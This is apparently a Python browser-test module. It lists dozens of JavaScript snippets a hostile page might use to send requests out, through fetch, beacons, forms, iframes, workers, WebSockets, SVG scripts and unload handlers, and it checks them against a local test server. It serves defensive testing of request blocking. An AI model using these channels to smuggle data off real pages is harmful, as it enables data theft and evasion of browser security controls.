"""Everything a hostile page can try to send something with, each under its own name.

Each attack is JavaScript run in the store's own page; what it tries to send has the path
`/write/<name>` (or a longer one), or calls the API `/h5/evil.<name>/1.0/`. `HERE` stands for the
store's origin, `THERE` for another.
"""

from tests.browser.small_store import SmallStore

ATTACKS: dict[str, str] = {
    "fetch": "fetch('/write/fetch', {method: 'POST', body: 'x'}).catch(() => 0)",
    "fetch_picture": "fetch('/write/fetch_picture.png', {method: 'POST'}).catch(() => 0)",
    "fetch_put": "fetch('/write/fetch_put', {method: 'PUT', body: 'x'}).catch(() => 0)",
    "fetch_delete": "fetch('/write/fetch_delete', {method: 'DELETE'}).catch(() => 0)",
    "fetch_there": """fetch('THERE/write/fetch_there',
        {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0)""",
    "fetch_api": "fetch('/h5/evil.fetch_api/1.0/').catch(() => 0)",
    "xhr": """const x = new XMLHttpRequest();
        x.open('POST', '/write/xhr'); x.send('x')""",
    "beacon": "navigator.sendBeacon('/write/beacon', 'x')",
    "beacon_there": "navigator.sendBeacon('THERE/write/beacon_there', 'x')",
    "form_in_frame": """const i = document.createElement('iframe'); i.name = 'inner';
        const f = Object.assign(document.createElement('form'),
          {method: 'post', action: '/write/form_in_frame', target: 'inner'});
        document.body.append(i, f); f.submit()""",
    "form_in_new_tab": """const f = Object.assign(document.createElement('form'),
          {method: 'post', action: '/write/form_in_new_tab', target: '_blank'});
        document.body.append(f); f.submit()""",
    "new_tab_api": "window.open('/h5/evil.new_tab_api/1.0/')",
    "new_tab_alone": "window.open('THERE/h5/evil.new_tab_alone/1.0/', '_blank', 'noopener')",
    "new_tab_posts": "window.open('/posts?new_tab_posts')",
    "new_tab_there": "window.open('THERE/posts?new_tab_there', '_blank', 'noopener')",
    "new_tab_empty": """const w = window.open('about:blank');
        w.fetch('/write/new_tab_empty', {method: 'POST', body: 'x'})""",
    "new_tab_closing": "window.open('/last_words?new_tab_closing&close')",
    "picture": "new Image().src = '/h5/evil.picture/1.0/'",
    "script": """const e = document.createElement('script');
        e.src = '/h5/evil.script/1.0/'; document.body.append(e)""",
    "style": """document.head.append(Object.assign(document.createElement('link'),
        {rel: 'stylesheet', href: '/h5/evil.style/1.0/'}))""",
    "style_picture": "document.body.style.background = 'url(/h5/evil.style_picture/1.0/)'",
    "preload": """document.head.append(Object.assign(document.createElement('link'),
        {rel: 'preload', as: 'image', href: '/h5/evil.preload/1.0/'}))""",
    "prefetch": """document.head.append(Object.assign(document.createElement('link'),
        {rel: 'prefetch', href: '/h5/evil.prefetch/1.0/'}))""",
    "icon": """document.head.append(Object.assign(document.createElement('link'),
        {rel: 'icon', href: '/h5/evil.icon/1.0/'}))""",
    "module": "import('/h5/evil.module/1.0/').catch(() => 0)",
    "font": "new FontFace('f', 'url(/h5/evil.font/1.0/)').load().catch(() => 0)",
    "video": """const v = Object.assign(document.createElement('video'),
        {src: '/h5/evil.video/1.0/'}); document.body.append(v); v.load()""",
    "object": """document.body.append(Object.assign(document.createElement('object'),
        {data: '/h5/evil.object/1.0/'}))""",
    "event_source": "new EventSource('/h5/evil.event_source/1.0/')",
    "frame_api": """document.body.append(Object.assign(document.createElement('iframe'),
        {src: '/h5/evil.frame_api/1.0/'}))""",
    "frame_posts": """document.body.append(Object.assign(document.createElement('iframe'),
        {src: '/posts?frame_posts'}))""",
    "frame_there": """document.body.append(Object.assign(document.createElement('iframe'),
        {src: 'THERE/posts?frame_there'}))""",
    "frame_sandboxed": """const i = document.createElement('iframe');
        i.sandbox = 'allow-scripts allow-forms'; i.src = '/posts?frame_sandboxed';
        document.body.append(i)""",
    "frame_gone": """const i = document.createElement('iframe'); document.body.append(i);
        i.contentWindow.fetch('/write/frame_gone', {method: 'POST', keepalive: true});
        i.remove()""",
    "frame_leaving": """const i = Object.assign(document.createElement('iframe'),
          {src: '/last_words?frame_leaving'});
        i.onload = () => i.remove(); document.body.append(i)""",
    "frame_leaving_there": """const i = Object.assign(document.createElement('iframe'),
          {src: 'THERE/last_words?frame_leaving_there'});
        i.onload = () => i.remove(); document.body.append(i)""",
    "later": "fetchLater('/write/later', {method: 'POST', body: 'x', activateAfter: 0})",
    "worker": "new Worker('/worker.js?worker')",
    "worker_inside": "new Worker('/worker_inside.js')",
    "worker_blob": """const code = `fetch('${location.origin}/write/worker_blob',
          {method: 'POST', body: 'x'})`;
        new Worker(URL.createObjectURL(new Blob([code])))""",
    "shared_worker": "new SharedWorker('/worker.js?shared_worker')",
    "service_worker": """ServiceWorkerContainer.prototype.register
        .call(navigator.serviceWorker, '/worker.js?service_worker').catch(() => 0)""",
    "redirected": "fetch('/redirects', {method: 'GET'}).catch(() => 0)",
    "socket": "new WebSocket('ws:HERE/write/socket')",
    "socket_there": "new WebSocket('ws:THERE/write/socket_there')",
    "socket_in_frame": """const i = document.createElement('iframe'); document.body.append(i);
        new i.contentWindow.WebSocket('ws:HERE/write/socket_in_frame')""",
    "socket_stream": "new WebSocketStream('ws:HERE/write/socket_stream')",
    "socket_in_worker": "new Worker('/socket.js?socket_in_worker')",
    "socket_in_module_worker": """new Worker('/socket.js?socket_in_module_worker',
        {type: 'module'})""",
    "socket_in_worker_inside": "new Worker('/socket_inside.js')",
    "socket_in_worker_blob": """new Worker(URL.createObjectURL(new Blob(
        ["new WebSocket('ws:HERE/write/socket_in_worker_blob')"])))""",
    "socket_in_worker_data": """new Worker('data:text/javascript,' + encodeURIComponent(
        "new WebSocket('ws:HERE/write/socket_in_worker_data')"))""",
    "socket_in_frame_worker": """const i = document.createElement('iframe');
        document.body.append(i); new i.contentWindow.Worker(URL.createObjectURL(new Blob(
          ["new WebSocket('ws:HERE/write/socket_in_frame_worker')"])))""",
    "socket_early": """document.body.append(Object.assign(document.createElement('iframe'),
        {src: '/early?socket_early'}))""",
    "socket_in_picture": """document.body.append(Object.assign(
        document.createElement('iframe'), {src: '/picture.svg?socket_in_picture'}))""",
    "socket_in_picture_worker": """document.body.append(Object.assign(document
        .createElement('iframe'), {src: '/picture_worker.svg?socket_in_picture_worker'}))""",
    "form": """const f = Object.assign(document.createElement('form'),
          {method: 'post', action: '/write/form'});
        document.body.append(f); f.submit()""",
    "location": "location.href = '/h5/evil.location/1.0/'",
    "leaving": """addEventListener('pagehide', () => {
          fetch('/write/leaving', {method: 'POST', keepalive: true, body: 'x'});
          navigator.sendBeacon('/write/leaving', 'x') });
        location.href = '/elsewhere'""",
}

_POSTS = """<script>
  const name = location.search.slice(1);
  fetch('/write/' + name, {method: 'POST', mode: 'no-cors', body: 'x'}).catch(() => 0);
  navigator.sendBeacon('/write/' + name, 'x');
</script>
<form method="post"></form>
<script>document.forms[0].action = '/write/' + name; document.forms[0].submit()</script>"""
_LAST_WORDS = """<script>
  const [name, close] = location.search.slice(1).split('&');
  addEventListener('pagehide', () => {
    fetch('/write/' + name, {method: 'POST', keepalive: true, mode: 'no-cors', body: 'x'});
    navigator.sendBeacon('/write/' + name, 'x');
  });
  if (close) setTimeout(() => window.close(), 100);
</script>"""
_SOCKET = "new WebSocket(`ws://${location.host}/write/${location.search.slice(1)}`)"
_SOCKET_IN_WORKER = """const address = `ws://${location.host}/write/${location.search.slice(1)}`;
  new Worker(URL.createObjectURL(new Blob([`new WebSocket('${address}')`])))"""
_PICTURE = '<svg xmlns="http://www.w3.org/2000/svg"><script>{}</script></svg>'
_WORKER = "fetch('/write/' + self.location.search.slice(1), {method: 'POST', body: 'x'})"


def furnish(store: SmallStore) -> None:
    """Lay out the pages and scripts the attacks need."""
    store.page("/attacked", "<!doctype html><title>attacked</title><body>")
    store.page("/posts", _POSTS)
    store.page("/last_words", _LAST_WORDS)
    store.page("/worker.js", _WORKER, kind="text/javascript")
    store.page(
        "/worker_inside.js", "new Worker('/worker.js?worker_inside')", kind="text/javascript"
    )
    store.page("/socket.js", _SOCKET, kind="text/javascript")
    store.page(
        "/socket_inside.js",
        "new Worker('/socket.js?socket_in_worker_inside')",
        kind="text/javascript",
    )
    store.page("/early", f"<html><script>{_SOCKET}</script>")
    for name, script in (("picture", _SOCKET), ("picture_worker", _SOCKET_IN_WORKER)):
        store.page(f"/{name}.svg", _PICTURE.format(script), kind="image/svg+xml")
    store.page("/redirects", "", status=302, headers=(("Location", "/h5/evil.redirected/1.0/"),))


def script_of(name: str, store: SmallStore) -> str:
    """The attack as JavaScript for this store."""
    script = ATTACKS[name].replace("ws:HERE", f"ws://127.0.0.1:{store.port}")
    script = script.replace("ws:THERE", f"ws://localhost:{store.port}")
    return f"() => {{ {script.replace('THERE', store.elsewhere)} }}"


def arrived(name: str, store: SmallStore) -> list[str]:
    """What the store received of that attack."""
    paths = (f"/write/{name}", f"/h5/evil.{name}/")
    return [
        line
        for line in store.received
        if line.split(" ", 1)[1].removesuffix("1.0/").removesuffix(".png") in paths
    ]
